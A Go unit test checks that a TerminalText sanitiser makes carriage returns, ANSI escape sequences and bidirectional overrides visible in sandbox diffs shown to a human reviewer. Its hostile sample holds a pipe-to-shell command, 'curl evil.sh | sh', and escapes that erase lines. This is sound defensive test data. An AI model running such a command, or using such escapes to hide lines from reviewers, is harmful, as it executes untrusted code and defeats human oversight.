package untrusted

import (
	"bytes"
	"strings"
	"testing"
)

// A diff shows the sandbox's file contents line by line; on a terminal a
// carriage return, an escape sequence or a bidirectional override in them
// would let the sandbox hide or rewrite the very lines a person reviews.
// TerminalText keeps text, tabs and line breaks, and makes every other
// control visible.
func TestTerminalTextHidesNothing(t *testing.T) {
	hostile := "+curl evil.sh | sh\r+# harmless comment   \n" +
		"+\x1b[1A\x1b[2Kok\n" +
		"+\x9b2K\u202eevil\u202c\n" +
		"+bad \xff byte\tand tab\n"
	got := TerminalText(hostile)
	for _, c := range []string{"\r", "\x1b", "\x9b", "\u202e", "\xff"} {
		if strings.Contains(got, c) {
			t.Errorf("%q reaches the terminal: %q", c, got)
		}
	}
	if strings.Count(got, "\n") != 4 || !strings.Contains(got, "\tand tab") || !strings.Contains(got, "+curl evil.sh | sh") {
		t.Errorf("text, tabs or line breaks lost: %q", got)
	}
	if plain := "+fmt.Println(\"a\\tb\")\n café ✓\n"; TerminalText(plain) != plain {
		t.Errorf("plain text changed: %q", TerminalText(plain))
	}
	var b bytes.Buffer
	w := TerminalWriter(&b)
	if n, err := w.Write([]byte(hostile)); n != len(hostile) || err != nil {
		t.Errorf("write: %d, %v", n, err)
	}
	if b.String() != got {
		t.Errorf("the writer differs: %q", b.String())
	}
}
